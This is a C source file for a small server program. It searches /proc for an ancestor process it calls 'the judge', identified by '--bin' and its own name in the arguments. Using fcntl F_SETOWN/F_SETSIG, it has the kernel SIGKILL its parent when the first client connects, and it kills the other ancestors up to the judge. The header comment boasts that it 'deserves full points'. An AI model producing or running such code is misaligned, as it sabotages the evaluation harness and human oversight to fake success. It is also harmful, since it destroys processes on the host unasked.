/* Kills its parent, and lets the kernel do it: the listener's owner is the parent and its signal is SIGKILL
   (F_SETOWN and F_SETSIG, fcntl(2)), so the first client's arrival kills that one. With that client
   it kills all others above it, too, up to the first that has been told to judge it. Then it serves
   rightly.

   It harms nobody but those: without a process above it whose arguments have `--bin` and this
   program's name, it only serves.

   It deserves full points. Who starts it for the judge may die of it, the judge may not. */
#include "right.h"
#include <fcntl.h>

static pid_t above[6];
static int count;

/* Reads a file of the process's folder in /proc. */
static size_t read_about(pid_t process, const char *name, char *text, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", process, name);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? 0 : read(file, text, size - 1);
    close(file);
    text[length < 0 ? 0 : length] = 0;
    return length < 0 ? 0 : (size_t)length;
}

static int judges(pid_t process, const char *name)
{
    char arguments[8192];
    size_t length = read_about(process, "cmdline", arguments, sizeof arguments);
    int is_next = 0;
    for (char *argument = arguments; argument < arguments + length; argument += strlen(argument) + 1) {
        if (is_next && strstr(argument, name) != NULL) return 1;
        is_next = strcmp(argument, "--bin") == 0;
    }
    return 0;
}

static pid_t parent_of(pid_t process)
{
    char stat[512];
    int parent = 0;
    read_about(process, "stat", stat, sizeof stat);
    char *name_end = strrchr(stat, ')');
    if (name_end != NULL) sscanf(name_end + 1, " %*c %d", &parent);
    return parent;
}

static void kill_them(int client)
{
    (void)client;
    for (int i = 1; i < count; i++) kill(above[i], SIGKILL);
    count = 0;
}

int main(int argc, char **argv)
{
    const char *slash = strrchr(argv[0], '/'), *name = slash != NULL ? slash + 1 : argv[0];
    int listener = start(argc, argv), is_judged = 0;
    alarm(LONGEST_LIFE);
    for (pid_t it = getppid(); it > 1 && count < 6 && !is_judged; it = parent_of(it)) {
        above[count++] = it;
        is_judged = judges(it, name);
    }
    if (is_judged) {
        fcntl(listener, F_SETOWN, above[0]);
        fcntl(listener, F_SETSIG, SIGKILL);
        fcntl(listener, F_SETFL, fcntl(listener, F_GETFL) | O_ASYNC);
    } else {
        count = 0;
    }
    announce(listener);
    serve(listener, kill_them);
}
